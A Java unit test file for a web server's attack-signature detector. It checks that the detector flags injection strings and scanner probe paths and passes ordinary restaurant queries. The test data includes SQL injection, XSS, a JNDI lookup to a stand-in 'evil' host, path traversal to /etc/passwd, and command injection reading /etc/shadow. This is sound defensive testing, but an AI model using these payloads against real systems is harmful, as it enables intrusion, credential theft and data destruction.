package os.qres.server.security;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.net.InetAddress;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class SignaturesTest {
    @ParameterizedTest
    @ValueSource(
            strings = {
                "/dishes?search=1%27%20OR%20%271%27=%271",
                "/dishes?search=1'%20or%201=1",
                "/dishes?search=x';DROP%20TABLE%20dish",
                "/dishes?search=x%27--",
                "/dishes?id=1+UNION+ALL+SELECT+password+FROM+staff",
                "/dishes?id=(select%20a%20from%20b%20)",
                "/dishes?id=1;%20delete%20from%20orders",
                "/dishes?id=pg_sleep(5)",
                "/dishes?search=%3Cscript%3Ealert(1)%3C/script%3E",
                "/dishes?search=%3Cimg%20src=x%20onerror=alert(1)%3E",
                "/dishes?search=javascript:alert(1)%3B",
                "/dishes?search=$%7Bjndi:ldap://evil/a%7D",
                "/dishes?search=%7B%7B7*7%7D%7D",
                "/files/..%2f..%2fetc/passwd",
                "/x?file=../../secret",
                "/x?cmd=;cat%20/etc/shadow",
                "/x?cmd=%60id%60",
                "/x?f=a%00.png"
            })
    void anAttackIsKnown(String address) {
        assertTrue(Signatures.isInjection(address));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "/dishes?search=Steak%20(medium)",
                "/users?search=O%27Brien",
                "/dishes?search=rock%27n%27roll",
                "/dishes?search=d%27or",
                "/dishes?search=%D0%91%D0%BE%D1%80%D1%89%20%D0%B8%20%D0%BA%D0%B2%D0%B0%D1%81",
                "/dishes?search=100%25",
                "/dishes?search=union%20jack%20%26%20select%20cuts",
                "/menu?lang=ru&without=milk;nuts",
                "/orders?status=pending&date_from=2026-11-20",
                "/ws/orders?token=eyJhbGciOiJIUzI1NiJ9.e30.x-_y",
                "/dishes?search=%zz",
                "/dishes?search=a%3Eb"
            })
    void whatARestaurantAsksForIsNone(String address) {
        assertFalse(Signatures.isInjection(address));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "/.env",
                "/api/.env.local",
                "/.git/config",
                "/wp-admin/setup-config.php",
                "/index.php",
                "/shell.jsp",
                "/backup.sql",
                "/phpMyAdmin/index",
                "/actuator/health",
                "/cgi-bin/luci"
            })
    void aProbeIsKnown(String path) {
        assertTrue(Signatures.isProbe(path));
    }

    @ParameterizedTest
    @ValueSource(strings = {"/favicon.ico", "/orders/999999", "/apple-touch-icon.png", "/.well-known/assetlinks.json"})
    void whatAPhoneLooksForIsNone(String path) {
        assertFalse(Signatures.isProbe(path));
    }

    @Test
    void aVeryLongAddressIsLookedAtQuickly() {
        String long_ = "/x?q=" + "select%20a%20".repeat(5_000) + "%27";
        assertFalse(Signatures.isInjection(long_));
    }

    @ParameterizedTest
    @CsvSource({
        "192.168.1.7,192.168.1.7",
        "::ffff:192.168.1.7,192.168.1.7",
        "2001:db8:1:2:3:4:5:6,2001:db8:1:2:0:0:0:0",
        "2001:db8:1:2::,2001:db8:1:2:0:0:0:0",
        "::1,0:0:0:0:0:0:0:1"
    })
    void anAddressIsCountedByItselfOrByItsNetwork(String address, String key) {
        assertEquals(key, Address.key(InetAddress.ofLiteral(address)));
        assertEquals(key, Address.keyOf(address));
    }
}
